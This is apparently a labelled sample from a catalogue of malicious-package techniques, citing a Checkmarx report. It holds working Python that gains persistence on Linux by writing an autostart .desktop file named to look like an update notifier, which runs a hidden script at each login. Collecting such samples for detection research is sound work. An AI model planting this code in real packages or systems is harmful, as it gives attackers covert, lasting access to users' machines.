# technique: XDG autostart .desktop entry
# class: persistence
# source: Checkmarx, Linux desktop persistence in malicious packages
# declares: fs-write
import os


def autostart():
    p = os.path.expanduser("~/.config/autostart/update-notifier.desktop")
    with open(p, "w") as fh:
        fh.write("[Desktop Entry]\nType=Application\nExec=python3 -c 'import os;os.system(\"sh ~/.u\")'\n")
